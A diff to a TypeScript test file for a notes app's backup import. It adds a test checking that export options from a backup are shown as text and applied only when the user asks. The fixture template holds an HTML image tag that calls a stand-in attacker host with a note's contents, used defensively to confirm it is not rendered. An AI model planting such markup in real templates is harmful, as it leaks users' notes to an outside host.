@@ -9,6 +9,8 @@ import { conferenceLibrary, highlight, page, sampleLibrary, talk } from '../../c
 import { fillLibrary, readWholeLibrary } from '../../storage/library-helpers';
 
 const NOW = Date.UTC(2024, 4, 1, 9, 30);
+const HELD_NOTE =
+  ' Its export options were not applied: they change what every export writes. They are shown below.';
 
 let db: TalkNotesDatabase;
 let download: ReturnType<typeof vi.fn<(file: DownloadFile) => void>>;
@@ -59,10 +61,10 @@ describe('BackupControls', () => {
     chooseFile(serializeBackup(createBackup(sampleLibrary(), NOW)));
     await waitFor(() =>
       expect(screen.getByRole('status').textContent).toBe(
-        'Imported backup.json: 10 added, 0 updated, 0 unchanged.',
+        `Imported backup.json: 9 added, 0 updated, 0 unchanged.${HELD_NOTE}`,
       ),
     );
-    expect(onImported).toHaveBeenCalledWith(expect.objectContaining({ added: 10 }));
+    expect(onImported).toHaveBeenCalledWith(expect.objectContaining({ added: 9 }));
     expect(await db.highlights.count()).toBe(3);
     const pages = [...new Set(sampleLibrary().highlights.map((h) => h.url))];
     expect(onHighlightsChanged).toHaveBeenCalledExactlyOnceWith(expect.arrayContaining(pages));
@@ -71,10 +73,62 @@ describe('BackupControls', () => {
     chooseFile(serializeBackup(createBackup(sampleLibrary(), NOW)));
     await waitFor(() =>
       expect(screen.getByRole('status').textContent).toBe(
-        'Imported backup.json: 0 added, 0 updated, 10 unchanged.',
+        `Imported backup.json: 0 added, 0 updated, 9 unchanged.${HELD_NOTE}`,
       ),
     );
     expect(onHighlightsChanged).toHaveBeenCalledOnce();
+  });
+
+  it('Import backup shows the export options a backup holds, template as text, and applies them only when asked', async () => {
+    const template = '<img src="https://evil.example/?n={{note}}">\n> {{quote}}';
+    const library = sampleLibrary();
+    library.settings = [
+      ...library.settings.filter((s) => s.key !== 'exportOptions'),
+      {
+        key: 'exportOptions',
+        value: {
+          groupBy: 'page',
+          includeNotes: true,
+          includeTags: false,
+          includeLinks: true,
+          includeFrontMatter: false,
+          template,
+        },
+      },
+      { key: 'telemetry', value: { id: 'x' } },
+    ];
+    show();
+    chooseFile(serializeBackup(createBackup(library, NOW)));
+    await waitFor(() =>
+      expect(screen.getByRole('status').textContent).toBe(
+        `Imported backup.json: 9 added, 0 updated, 0 unchanged. 1 setting this version does not know was left out ("telemetry").${HELD_NOTE}`,
+      ),
+    );
+    const held = screen.getByRole('region', { name: 'Export options in the backup' });
+    expect(held.textContent).toContain(
+      'The backup’s export options, with a template: sections by page, notes yes, tags no, links to passages yes, front matter no.',
+    );
+    // The template is shown as it is, as text.
+    expect(held.querySelector('pre')?.textContent).toBe(template);
+    expect(held.querySelector('img')).toBeNull();
+    expect((await readWholeLibrary(db)).settings.map((s) => s.key)).toEqual(['colorNames']);
+
+    fireEvent.click(screen.getByRole('button', { name: 'Use these export options' }));
+    await waitFor(() =>
+      expect(screen.getByRole('status').textContent).toBe(
+        'The export options from the backup are now yours.',
+      ),
+    );
+    expect((await db.settings.get('exportOptions'))?.value).toEqual(library.settings[1]!.value);
+    expect(screen.queryByRole('region', { name: 'Export options in the backup' })).toBeNull();
+
+    // The same options again: nothing to ask.
+    chooseFile(serializeBackup(createBackup(library, NOW)));
+    await waitFor(() =>
+      expect(screen.getByRole('status').textContent).toMatch(/^Imported backup\.json: 0 added/),
+    );
+    expect(screen.getByRole('status').textContent).not.toContain('export options');
+    expect(screen.queryByRole('button', { name: 'Use these export options' })).toBeNull();
   });
 
   it('Import backup brings conferences: counted in the summary, with a word on links it had to drop', async () => {
